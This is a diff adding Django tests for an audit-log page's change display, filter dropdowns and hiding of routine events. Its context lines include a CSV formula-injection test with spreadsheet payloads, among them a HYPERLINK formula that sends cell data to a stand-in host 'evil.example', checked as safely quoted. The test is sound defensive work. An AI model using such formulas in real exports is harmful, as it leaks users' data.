@@ -94,3 +94,53 @@ def test_audit_csv_cells_that_would_run_as_formulas_are_quoted(client, admin_use
     notes = [row[header.index("note")] for row in rows[1:] if row[header.index("verb")] == "document.note"]
     assert objects == {'\'=HYPERLINK("http://evil.example/?x="&A1,"open")'}
     assert sorted(notes) == sorted(["'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "'\rcmd", "plain = text"])
+
+
+def test_audit_log_shows_changes_as_readable_lines(client, admin_user, reviewer):
+    long_claim = "Refunds are paid within fourteen days of the request. " * 10
+    audit_record(verb="answer.score", obj=reviewer, actor=reviewer, before={"risk": "high", "score": 0.2},
+                 after={"risk": "medium", "score": 0.2, "released_text": long_claim, "overrides_checker": False})
+    client.force_login(admin_user)
+
+    page = client.get("/audit/").content.decode()
+
+    assert ('<span class="field">risk:</span>\n            '
+            '<span class="old">high</span> → <span class="new">medium</span>') in page
+    assert "score:" not in page  # unchanged while something else changed
+    assert '<span class="field">overrides checker:</span>\n            <span class="new">no</span>' in page
+    assert long_claim not in page and "…</span></li>" in page  # cut short inside its own line
+    assert "{&#x27;risk&#x27;" not in page and "{'risk'" not in page
+
+
+def test_audit_log_filters_come_from_dropdowns_of_what_happened(client, admin_user, reviewer, curator):
+    audit_record(verb="answer.approve", obj=reviewer, actor=reviewer, note="approved it")
+    audit_record(verb="version.approve", obj=curator, actor=curator, note="approved the version")
+    client.force_login(admin_user)
+
+    page = client.get("/audit/").content.decode()
+    one_verb = client.get("/audit/?verb=version.approve").content.decode()
+    by_type = client.get("/audit/?object_type=console.user&verb=answer.").content.decode()
+
+    assert '<select name="verb" id="id_verb">' in page
+    assert '<option value="answer.">any answer action</option>' in page
+    assert '<option value="version.approve">version.approve</option>' in page
+    assert '<option value="console.user">user</option>' in page
+    assert "approved the version" in one_verb and "approved it<" not in one_verb
+    assert "approved it" in by_type and "approved the version" not in by_type
+
+
+def test_lease_and_no_op_events_are_hidden_unless_asked_for(client, admin_user, reviewer):
+    audit_record(verb="answer.lease", obj=reviewer, actor=reviewer, after={"until": "2026-12-01T10:00"})
+    audit_record(verb="claim.confirmed", obj=reviewer, actor=reviewer, before={"review_state": "confirmed"},
+                 after={"review_state": "confirmed"})
+    audit_record(verb="claim.rejected", obj=reviewer, actor=reviewer, before={"review_state": "open"},
+                 after={"review_state": "rejected"})
+    client.force_login(admin_user)
+
+    page = client.get("/audit/").content.decode()
+    everything = client.get("/audit/?include_routine=on").content.decode()
+
+    assert "claim.rejected" in page
+    assert "<code>answer.lease</code>" not in page and "<code>claim.confirmed</code>" not in page
+    assert 'name="include_routine"' in page and "Show lease and no-op events" in page
+    assert "<code>answer.lease</code>" in everything and "<code>claim.confirmed</code>" in everything
